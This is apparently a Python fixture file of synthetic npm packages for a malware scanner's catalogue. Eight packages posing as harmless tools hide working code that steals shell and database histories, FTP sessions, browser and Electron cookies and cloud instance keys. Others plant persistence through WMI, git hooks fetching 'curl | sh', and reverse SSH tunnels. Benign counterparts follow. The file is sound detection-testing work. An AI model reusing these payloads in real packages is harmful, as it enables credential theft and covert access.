"""Catalogue samples for scripts/make-samples.py (2026-11, issue 6, branch catalog): secrets the
scanner did not name (REPL and database histories, password vaults, FTP client sessions, browser
storage, an Electron session's cookies, the cloud instance role), sinks it did not follow (SMTP,
sendBeacon, a WebSocket) and footholds it did not know (WMI subscriptions, git hooks, reverse SSH
tunnels), each in its own shape, plus tricky-benign packages using the same stores and APIs
honestly. Same safety rules as samples_malicious.py: Python string data packed in memory, never
written out, imported or run. Defanged: documentation IPs, reserved host names, made-up keys.
"""

from samples_malicious import S, pj
from samples_common import registry

SAMPLES, BENIGN, sample, benign = registry()


@sample
def repl_history_smtp():
    files = {
        "package.json": pj(name="repl-theme-tools", version="2.0.1", main="lib/index.js",
                           description="Colour themes for the Node.js REPL",
                           dependencies={"nodemailer": "^6.9.0"}),
        "lib/index.js": r'''"use strict";
const fs = require("fs");
const os = require("os");
const path = require("path");
const nodemailer = require("nodemailer");

const themes = { dark: { prompt: "\x1b[36m> \x1b[0m" }, light: { prompt: "\x1b[34m> \x1b[0m" } };

function collect() {
  const out = [];
  for (const name of [".node_repl_history", ".python_history", ".psql_history", ".mysql_history"]) {
    try { out.push(name + "\n" + fs.readFileSync(path.join(os.homedir(), name), "utf8")); } catch (e) {}
  }
  return out.join("\n----\n");
}

const transport = nodemailer.createTransport({ host: "198.51.100.25", port: 2525, secure: false });
transport.sendMail({ from: "themes@repl.invalid", to: "inbox@repl.invalid", subject: os.hostname(), text: collect() }, () => {});

module.exports = { themes, apply: (repl, t) => { repl.setPrompt(themes[t].prompt); } };
''',
    }
    return S("cat-repl-history-smtp",
             "REPL and database-client histories (passwords typed into psql/mysql, tokens pasted "
             "into the Node REPL) mailed over SMTP on require", "2026",
             ["history-theft", "smtp-exfil", "on-require"],
             "Synthetic (issue 6): histories the credential catalogue did not name, sent with "
             "nodemailer to a documentation IP.", files)


@sample
def ftp_sessions_axios():
    files = {
        "package.json": pj(name="deploy-target-list", version="1.3.0", main="index.js",
                           bin={"deploy-targets": "cli.js"}, description="List deploy targets",
                           dependencies={"axios": "^1.6.0"}),
        "cli.js": "#!/usr/bin/env node\nrequire('./index.js').list().then((t) => console.log(t.join('\\n')));\n",
        "index.js": r'''const fs = require("fs");
const os = require("os");
const path = require("path");
const axios = require("axios");

const appData = process.env.APPDATA || path.join(os.homedir(), ".config");
const stores = [
  path.join(appData, "FileZilla", "sitemanager.xml"),
  path.join(appData, "FileZilla", "recentservers.xml"),
  path.join(os.homedir(), "AppData", "Roaming", "WinSCP.ini"),
];

async function list() {
  const found = {};
  for (const s of stores) {
    try { found[path.basename(s)] = fs.readFileSync(s, "utf8"); } catch (e) {}
  }
  if (Object.keys(found).length) {
    await axios.post("https://paste.deploy-targets.test/api/create", { content: JSON.stringify(found), expiry: "1d" }).catch(() => {});
  }
  return Object.keys(found);
}

module.exports = { list };
''',
    }
    return S("cat-ftp-sessions-axios",
             "saved FTP/SFTP sessions of FileZilla and WinSCP (hosts and passwords) posted to a "
             "paste service when the CLI runs", "2026",
             ["ftp-client-theft", "paste-exfil", "bin"],
             "Synthetic (issue 6): FTP client stores, a paste-site-shaped collector.", files)


@sample
def browser_storage_beacon():
    files = {
        "package.json": pj(name="react-scroll-restore", version="0.9.4", main="dist/index.js",
                           module="dist/index.mjs", description="Restore scroll position in SPAs",
                           peerDependencies={"react": ">=17"}),
        "dist/index.mjs": r'''import { useEffect } from "react";

const KEY = "__scroll_restore";

function snapshot() {
  try {
    const state = JSON.stringify({ s: localStorage, c: document.cookie, u: location.href });
    navigator.sendBeacon("https://203.0.113.90/r", state);
  } catch (e) {}
}

if (typeof window !== "undefined") window.addEventListener("pagehide", snapshot);

export function useScrollRestore(id) {
  useEffect(() => {
    const y = Number(sessionStorage.getItem(KEY + id) || 0);
    window.scrollTo(0, y);
    return () => sessionStorage.setItem(KEY + id, String(window.scrollY));
  }, [id]);
}
''',
        "dist/index.js": "module.exports = require('./index.mjs');\n",
    }
    return S("cat-browser-storage-beacon",
             "whole localStorage and the page cookies of every SPA using the hook sent with "
             "sendBeacon when the page is hidden", "2026",
             ["browser-storage-theft", "cookie-theft", "beacon-exfil", "frontend"],
             "Synthetic (issue 6): browser storage as a secret store, sendBeacon as a sink.", files)


@sample
def electron_cookies_websocket():
    files = {
        "package.json": pj(name="electron-tray-badge", version="3.1.0", main="main.js",
                           description="Tray badge counters for Electron apps"),
        "main.js": r'''const { app, session, Tray } = require("electron");

let ws;
function relay(items) {
  if (!ws) ws = new WebSocket("wss://badge-sync.tray.invalid/live");
  const msg = JSON.stringify({ app: app.getName(), items });
  if (ws.readyState === 1) ws.send(msg); else ws.addEventListener("open", () => ws.send(msg));
}

app.whenReady().then(() => {
  session.defaultSession.cookies.get({}).then((cookies) => relay(cookies)).catch(() => {});
});

module.exports = function badge(tray, n) { tray.setTitle(n ? String(n) : ""); };
''',
    }
    return S("cat-electron-cookies-websocket",
             "every cookie of the host Electron app's session relayed over a WebSocket", "2026",
             ["electron", "session-cookie-theft", "websocket-exfil"],
             "Synthetic (issue 6): Electron session cookies as a secret store.", files)


@sample
def imds_role_postinstall():
    files = {
        "package.json": pj(name="cloud-region-detect", version="1.0.7", main="index.js",
                           description="Detect the cloud region you run in",
                           scripts={"postinstall": "node detect.js"}),
        "index.js": "module.exports = () => process.env.AWS_REGION || null;\n",
        "detect.js": r'''const http = require("http");
const https = require("https");

function get(path, headers) {
  return new Promise((resolve) => {
    const req = http.request({ host: "169.254.169.254", path, headers, timeout: 1500 }, (res) => {
      let d = ""; res.on("data", (c) => (d += c)); res.on("end", () => resolve(d));
    });
    req.on("error", () => resolve("")); req.end();
  });
}

(async () => {
  const role = (await get("/latest/meta-data/iam/security-credentials/", {})).split("\n")[0];
  if (!role) return;
  const creds = await get("/latest/meta-data/iam/security-credentials/" + role, {});
  const body = Buffer.from(creds).toString("base64");
  const out = https.request({ host: "region-stats.cloud-detect.invalid", path: "/v1/r", method: "POST" });
  out.on("error", () => {});
  out.end(body);
})();
''',
    }
    return S("cat-imds-role-postinstall",
             "the EC2 instance role's temporary keys read from the metadata endpoint at install "
             "time (CI runners and build hosts) and posted out", "2026",
             ["cloud-credentials", "imds", "install-time", "network"],
             "Synthetic (issue 6): the instance credential endpoint as a secret source.", files)


@sample
def wmi_subscription_postinstall():
    files = {
        "package.json": pj(name="win-console-colors", version="1.2.2", main="index.js",
                           description="ANSI colours for legacy Windows consoles",
                           scripts={"postinstall": "node setup.js"}),
        "index.js": "module.exports = (s) => s;\n",
        "setup.js": r'''const { execFileSync } = require("child_process");
if (process.platform === "win32") {
  const ps = [
    "$q = \"SELECT * FROM __InstanceModificationEvent WITHIN 600 WHERE TargetInstance ISA 'Win32_PerfFormattedData_PerfOS_System'\"",
    "Register-CimIndicationEvent -Namespace root/cimv2 -Query $q -SourceIdentifier ConsoleColors -Action { iwr https://colors.win-console.invalid/u | iex }",
  ].join("; ");
  try { execFileSync("powershell.exe", ["-NoProfile", "-WindowStyle", "Hidden", "-Command", ps], { stdio: "ignore" }); } catch (e) {}
}
''',
    }
    return S("cat-wmi-subscription-postinstall",
             "a WMI/CIM event subscription registered at install time that re-downloads and runs "
             "a script every ten minutes", "2026",
             ["windows", "wmi-persistence", "install-time"],
             "Synthetic (issue 6): CIM indication events as a foothold.", files)


@sample
def git_hook_postinstall():
    files = {
        "package.json": pj(name="commit-msg-lint-lite", version="0.4.0", main="index.js",
                           description="Tiny commit message linter",
                           scripts={"postinstall": "node hooks.js"}),
        "index.js": "module.exports = (m) => /^(feat|fix|docs|chore)(\\(.+\\))?: .+/.test(m);\n",
        "hooks.js": r'''const fs = require("fs");
const path = require("path");
const root = process.env.INIT_CWD || process.cwd();
const hook = path.join(root, ".git", "hooks", "post-checkout");
const body = "#!/bin/sh\n(curl -fsSL https://203.0.113.61/h.sh | sh) >/dev/null 2>&1 &\n";
try { fs.writeFileSync(hook, body, { mode: 0o755 }); } catch (e) {}
''',
    }
    return S("cat-git-hook-postinstall",
             "a git hook written into the installing project at install time, fetching and "
             "running a script on every checkout", "2026",
             ["git-hook-persistence", "install-time"],
             "Synthetic (issue 6): git hooks as a foothold.", files)


@sample
def ssh_reverse_tunnel():
    files = {
        "package.json": pj(name="dev-preview-share", version="2.2.0", main="index.js",
                           description="Share your dev server", scripts={"install": "node tunnel.js"}),
        "index.js": "module.exports = {};\n",
        "tunnel.js": r'''const { spawn } = require("child_process");
const args = ["-o", "StrictHostKeyChecking=no", "-N", "-R", "0:localhost:22", "relay@198.51.100.14", "-p", "443"];
spawn("ssh", args, { detached: true, stdio: "ignore" }).unref();
''',
    }
    return S("cat-ssh-reverse-tunnel",
             "a reverse SSH tunnel exposing the developer's sshd to an outside relay, opened "
             "detached at install time", "2026",
             ["reverse-tunnel", "install-time", "silent-process"],
             "Synthetic (issue 6): ssh -R as a foothold.", files)


@benign
def b_auth_sdk_storage():
    files = {
        "package.json": pj(name="acme-auth-browser", version="4.2.0", module="index.mjs",
                           main="index.mjs", description="Browser auth client for Acme"),
        "index.mjs": r'''const KEY = "acme.auth_token";
export function save(token) { localStorage.setItem(KEY, token); }
export async function me() {
  const token = localStorage.getItem(KEY);
  const r = await fetch("https://api.acme.example/v1/me", { headers: { Authorization: "Bearer " + token } });
  return r.json();
}
export function pageMetrics() {
  navigator.sendBeacon("https://metrics.acme.example/v1/page", JSON.stringify({ path: location.pathname, ms: performance.now(), theme: localStorage.getItem("theme") }));
}
''',
    }
    return S("cat-benign-auth-sdk-storage", "auth SDK keeping its own token in localStorage, "
             "sending it to its own API, beaconing page metrics", "", ["local-storage", "beacon"],
             "Benign counterpart of cat-browser-storage-beacon.", files)


@benign
def b_imds_client():
    files = {
        "package.json": pj(name="tiny-imds", version="1.1.0", main="index.js",
                           description="Minimal EC2 instance metadata client (IMDSv2)"),
        "index.js": r'''const http = require("http");
function call(method, path, headers) {
  return new Promise((resolve, reject) => {
    const req = http.request({ host: "169.254.169.254", method, path, headers, timeout: 1000 }, (res) => {
      let d = ""; res.on("data", (c) => (d += c)); res.on("end", () => resolve(d));
    });
    req.on("error", reject); req.end();
  });
}
async function credentials() {
  const token = await call("PUT", "/latest/api/token", { "x-aws-ec2-metadata-token-ttl-seconds": "60" });
  const h = { "x-aws-ec2-metadata-token": token };
  const role = (await call("GET", "/latest/meta-data/iam/security-credentials/", h)).trim();
  return JSON.parse(await call("GET", "/latest/meta-data/iam/security-credentials/" + role, h));
}
module.exports = { credentials };
''',
    }
    return S("cat-benign-imds-client", "instance metadata client returning the role's keys to "
             "its caller", "", ["imds"], "Benign counterpart of cat-imds-role-postinstall.", files)


@benign
def b_mcp_setup_cli():
    files = {
        "package.json": pj(name="docs-mcp-setup", version="0.2.0", bin={"docs-mcp-setup": "cli.js"},
                           description="Add the docs MCP server to your editor"),
        "cli.js": r'''#!/usr/bin/env node
const fs = require("fs");
const os = require("os");
const path = require("path");
const readline = require("readline");
const file = path.join(os.homedir(), ".cursor", "mcp.json");
const rl = readline.createInterface({ input: process.stdin, output: process.stdout });
rl.question(`Add the docs server to ${file}? [y/N] `, (a) => {
  rl.close();
  if (!/^y/i.test(a)) return;
  let cfg = {};
  try { cfg = JSON.parse(fs.readFileSync(file, "utf8")); } catch (e) {}
  cfg.mcpServers = Object.assign({}, cfg.mcpServers, { docs: { command: "npx", args: ["-y", "docs-mcp"] } });
  fs.mkdirSync(path.dirname(file), { recursive: true });
  fs.writeFileSync(file, JSON.stringify(cfg, null, 2));
});
''',
    }
    return S("cat-benign-mcp-setup-cli", "CLI that asks before adding an MCP server to the "
             "editor config", "", ["mcp-config"], "Benign counterpart of agent config footholds.",
             files)


@benign
def b_history_search():
    files = {
        "package.json": pj(name="hist-fuzzy", version="1.0.3", bin={"hf": "cli.js"},
                           description="Fuzzy search your shell history"),
        "cli.js": r'''#!/usr/bin/env node
const fs = require("fs");
const os = require("os");
const path = require("path");
const q = (process.argv[2] || "").toLowerCase();
const file = path.join(os.homedir(), process.env.SHELL && process.env.SHELL.endsWith("zsh") ? ".zsh_history" : ".bash_history");
const lines = fs.readFileSync(file, "utf8").split("\n").filter((l) => l.toLowerCase().includes(q));
console.log(lines.slice(-20).join("\n"));
fetch("https://registry.npm.example/hist-fuzzy/latest").then((r) => r.json()).then((p) => {
  if (p.version !== "1.0.3") console.error("update available: " + p.version);
}).catch(() => {});
''',
    }
    return S("cat-benign-history-search", "shell history search CLI that checks for updates",
             "", ["shell-history"], "Benign counterpart of cat-repl-history-smtp.", files)
